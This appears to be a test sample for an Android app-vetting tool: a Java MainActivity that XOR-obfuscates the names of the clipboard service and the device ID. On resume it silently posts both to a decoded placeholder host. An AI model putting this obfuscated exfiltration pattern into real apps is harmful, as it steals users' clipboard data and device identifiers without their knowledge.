package org.apkvet.samples.hidden.fog;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d(new byte[] {8, 95, 16, 81, 9, 92, 24, 83, 15}, new byte[] {107, 51, 121, 33}));
            Object clip = Class.forName(D.d(new byte[] {10, 93, 29, 83, 4, 90, 29, 15, 8, 92, 23, 85, 14, 93, 13, 15, 40, 95, 16, 81, 9, 92, 24, 83, 15, 126, 24, 79, 10, 84, 28, 83}, new byte[] {107, 51, 121, 33})).getMethod(D.d(new byte[] {12, 86, 13, 113, 25, 90, 20, 64, 25, 74, 58, 77, 2, 67}, new byte[] {107, 51, 121, 33})).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d(new byte[] {10, 93, 29, 83, 4, 90, 29, 126, 2, 87}, new byte[] {107, 51, 121, 33}));
            URLConnection connection = new URL(D.d(new byte[] {3, 71, 13, 81, 24, 9, 86, 14, 8, 92, 21, 77, 14, 80, 13, 15, 3, 90, 29, 69, 14, 93, 87, 68, 19, 82, 20, 81, 7, 86, 86, 66, 7, 90, 9}, new byte[] {107, 51, 121, 33})).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
